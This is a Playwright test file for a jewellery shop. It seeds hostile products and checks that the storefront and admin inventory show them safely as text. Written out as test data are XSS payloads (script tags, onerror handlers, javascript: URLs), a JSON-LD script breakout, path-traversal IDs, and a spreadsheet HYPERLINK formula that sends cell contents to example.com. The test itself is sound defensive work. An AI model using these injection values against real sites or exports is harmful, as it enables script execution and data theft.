import { readFile } from "node:fs/promises";
import type { Page } from "@playwright/test";
import { doc, serverTimestamp, setDoc } from "firebase/firestore/lite";
import { expectNoSidewaysScroll, LAPTOP, PHONE } from "../accessibility.ts";
import { expect, test } from "../fixtures.ts";
import { onShow, pathOf, sampleProduct } from "../stock.ts";
import { firestore } from "../../../src/firebase/firebase.ts";
import { openAsAdministrator } from "./log-in.ts";

/** Hostile documents, written past the rules: the shop shows them as text or leaves them out, and keeps working. */

const RUN = "window.hasRun = true";
const MARK_UP = `<script>${RUN}</script><img src=x onerror="${RUN}">`;
const RTL = "Ring \u202eevoba\u202c \u200fعقد";
const LONG = "Long ring ".repeat(70_000);
const solitaire = sampleProduct("Six-Claw Solitaire Ring, 1.52ct");

const common = {
  sku: "HOSTILE",
  description: MARK_UP,
  price: "100",
  brand: "Brézé",
  jewellery: "Rings",
  available: "Is Available",
  revision: 1,
};

const HOSTILE = [
  { id: "hostile-mark-up", title: MARK_UP },
  { id: "hostile-json", title: `</script><script>${RUN}</script>` },
  { id: "hostile-direction", title: RTL },
  { id: "hostile-unbroken", title: "W".repeat(200), sku: `HOSTILE-${"W".repeat(52)}` },
  { id: "hostile-formula", title: '=HYPERLINK("https://example.com/?take="&A1,"Ring")' },
  {
    id: "hostile-picture",
    title: "Ring with a hostile picture",
    mainImage: `javascript:${RUN}`,
    images: [`javascript:${RUN}`, `data:text/html,<script>${RUN}</script>`, 7, { a: 1 }],
  },
  {
    id: "constructor",
    title: "Ring of other types",
    price: { __proto: "x" },
    brand: ["a"],
    size: 7,
    salePrice: true,
    description: 42,
  },
] as const;

test.beforeAll(async ({ stock }) => {
  await stock.reset(); // connects this process as the owner
  // The published stock is shown with these later saves.
  const timestamp = serverTimestamp();
  for (const { id, ...fields } of HOSTILE)
    await setDoc(doc(firestore(), "products", id), { ...common, ...fields, timestamp });
  await setDoc(doc(firestore(), "products", "hostile-long"), { ...common, title: LONG, timestamp });
  await setDoc(doc(firestore(), "products", "hostile-nothing"), {
    ...common,
    title: 7,
    images: 5,
    timestamp,
  });
  await setDoc(doc(firestore(), "brands", "hostile"), {
    brandName: MARK_UP,
    brandImage: `javascript:${RUN}`,
    timestamp,
  });
  await setDoc(doc(firestore(), "withdrawals", "hostile"), { at: timestamp, paths: { a: [7] } });
  await setDoc(doc(firestore(), "stock", "latest"), { savedAt: timestamp });
});

test.afterAll(async ({ stock }) => {
  await stock.reset();
});

/** No script of the documents has run, and the page contains no javascript: URL. */
async function expectNothingRun(page: Page): Promise<void> {
  expect(await page.evaluate(() => "hasRun" in window)).toBe(false);
  await expect(page.locator('[href^="javascript:" i], [src^="javascript:" i]')).toHaveCount(0);
}

test("a listing shows hostile titles as text of limited length, and all other products", async ({
  page,
}) => {
  await page.goto("/shop");
  const titles = page.locator(".product-card-title");
  await expect(titles.filter({ hasText: MARK_UP })).toHaveCount(1);
  await expect(titles.filter({ hasText: "hostile picture" })).toHaveCount(1);
  const lengths = await titles.evaluateAll((all) =>
    all.map(({ textContent }) => textContent?.length ?? 0),
  );
  expect(Math.max(...lengths)).toBeLessThanOrEqual(200);
  const count = await page.locator(".listing-count").textContent();
  expect(Number.parseInt(count ?? "", 10)).toBeGreaterThan(onShow.length);
  await expectNothingRun(page);
  await expectNoSidewaysScroll(page);
});

for (const { id, title } of [...HOSTILE, { id: "hostile-long", title: "Long ring" }]) {
  test(`the product ${id} is shown as text, with valid structured data`, async ({ page }) => {
    await page.goto(`/shop/breze/rings/product/${id}`);
    await expect(page.getByRole("heading", { level: 1 })).toContainText(title);
    await expect(page.getByRole("heading", { name: "Details" })).toBeVisible();
    // A price that is no amount makes no offer, so that only the breadcrumbs are left.
    const count = id === "constructor" ? 1 : 2;
    await expect(page.locator('script[type="application/ld+json"]')).toHaveCount(count);
    for (const text of await page.locator('script[type="application/ld+json"]').allTextContents()) {
      expect(() => JSON.parse(text) as unknown).not.toThrow();
    }
    expect((await page.title()).length).toBeLessThan(260);
    await expectNothingRun(page);
  });
}

test("search, menu and other products still work", async ({ page }) => {
  await page.goto("/search/solitaire");
  await expect(page.locator(".product-card-title").first()).toContainText("Solitaire");
  await page.getByRole("button", { name: "Brands" }).click();
  // Its slide may be inert, outside the visible ones.
  const brand = page.getByRole("link", { name: MARK_UP, includeHidden: true });
  await expect(brand.first()).toBeAttached();
  await expectNothingRun(page);
  await page.goto(pathOf(solitaire));
  await expect(page.getByRole("heading", { level: 1 })).toHaveText(solitaire.title);
});

test("malformed product URLs show that there is no such product", async ({
  page,
  allowConsole,
}) => {
  allowConsole(/status of 40[034]/);
  for (const id of ["__proto__", "..%2F..", "a%2Fb", "%00", "%2E%2E", "x".repeat(1_600)]) {
    await page.goto(`/shop/a/b/product/${id}`);
    await expect(
      page.getByRole("heading", { name: /not listed online|cannot find that page/ }),
    ).toBeVisible();
  }
});

test("the inventory shows hostile products as text, and its CSV contains no formula @core", async ({
  page,
}) => {
  await openAsAdministrator(page, "/bj-admin/inventory?q=hostile");
  const titles = page.locator("tbody .cell-title a");
  // Two more have a long title and a number as their title.
  await expect(titles).toHaveCount(HOSTILE.length + 2);
  const shown = await titles.allTextContents();
  for (const { title } of HOSTILE) expect(shown).toContain(title);
  expect(Math.max(...shown.map(({ length }) => length))).toBeLessThanOrEqual(200);
  await expectNothingRun(page);
  for (const viewport of [PHONE, LAPTOP]) {
    await page.setViewportSize(viewport);
    await expectNoSidewaysScroll(page);
  }

  const downloading = page.waitForEvent("download");
  await page.getByRole("button", { name: "Export CSV" }).click();
  const file = await readFile(await (await downloading).path(), "utf8");
  expect(file).toContain(`"' =HYPERLINK(""https://example.com/?take=""&A1,""Ring"")"`);
  expect(file).not.toMatch(/(^|[,\n])"?[=+@]/);
});
